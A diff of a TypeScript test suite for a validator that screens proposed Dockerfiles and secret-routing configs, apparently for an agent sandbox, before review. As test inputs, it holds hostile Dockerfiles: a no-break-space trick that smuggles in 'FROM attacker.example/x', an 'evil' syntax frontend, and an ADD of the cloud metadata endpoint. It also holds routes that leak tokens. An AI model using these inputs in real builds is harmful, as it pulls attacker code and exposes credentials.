@@ -53,7 +53,7 @@ describe('proposals are checked before anyone sees them', () => {
 
   it('Dockerfile: parses, and FROM only an allowed base image', () => {
     const ok =
-      'ARG X=1\n# comment\nFROM bb-base:latest AS build\nRUN apk add \\\n  jq\nFROM build\nRUN <<EOF\necho hi\nEOF\nUSER 1000\n';
+      'ARG X=1\n# comment\nFROM bb-base:latest AS build\nRUN apk add \\  \n  jq\nFROM build\nRUN printf hi > /x\nUSER 1000\n';
     expect(refused('dockerfile', ok)).toBeUndefined();
     expect(parseDockerfile(ok).map((i) => i.keyword)).toEqual([
       'ARG',
@@ -97,6 +97,50 @@ describe('proposals are checked before anyone sees them', () => {
         'dockerfile',
         'FROM debian:12 AS tools\nRUN true\nFROM bb-base:latest\nCOPY --from=tools /x /x\nCOPY --from=0 /y /y\n',
       ),
+    ).toBeUndefined();
+  });
+
+  it('Dockerfile: nothing Docker could read differently from us (review findings)', () => {
+    // A backslash then a no-break space: Docker ends the line there, JavaScript's trim would not.
+    expect(
+      refused('dockerfile', 'FROM debian:12\nRUN echo \\\u00a0\nFROM attacker.example/x\n'),
+    ).toMatch(/U\+00a0 at line 2 is not allowed/);
+    expect(refused('dockerfile', '# escape=`\nFROM debian:12\n')).toMatch(/parser directives/);
+    expect(refused('dockerfile', '# syntax=evil/frontend\nFROM debian:12\n')).toMatch(
+      /parser directives/,
+    );
+    expect(refused('dockerfile', 'FROM debian:12\nRUN <<EOF\necho x\nEOF\n')).toMatch(
+      /heredocs are not allowed/,
+    );
+    expect(
+      refused(
+        'dockerfile',
+        'FROM debian:12\nADD ["http://169.254.169.254/latest/meta-data/","/c"]\n',
+      ),
+    ).toMatch(/ADD from the network/);
+    expect(refused('dockerfile', 'FROM debian:12\nVOLUME /d\n')).toMatch(/VOLUME is not allowed/);
+    expect(refused('dockerfile', 'FROM debian:12\nHEALTHCHECK CMD true\n')).toMatch(
+      /HEALTHCHECK is not allowed/,
+    );
+    // A continuation as Docker reads it: a backslash, then only spaces.
+    expect(parseDockerfile('FROM debian:12\nRUN a \\   \n  b\n').map((i) => i.args)).toEqual([
+      'debian:12',
+      'a b',
+    ]);
+  });
+
+  it("routes: bot-bottle's own secrets never go through a route; other secrets only over https", () => {
+    const route = (headers: Record<string, string>, upstream = 'https://api.example.com/v1') =>
+      JSON.stringify({ routes: [{ prefix: '/svc', upstream, headers }] });
+    expect(refused('routes', route({ authorization: 'env:FORGE_TOKEN' }))).toMatch(
+      /bot-bottle's own secret/,
+    );
+    expect(refused('routes', route({ x: 'env:BB_API_TOKEN' }))).toMatch(/bot-bottle's own secret/);
+    expect(refused('routes', route({ x: 'env:SVC_KEY' }, 'http://api.example.com/'))).toMatch(
+      /only over https/,
+    );
+    expect(
+      refused('routes', route({ x: 'env:SVC_KEY' }, 'http://127.0.0.1:8080/')),
     ).toBeUndefined();
   });
 
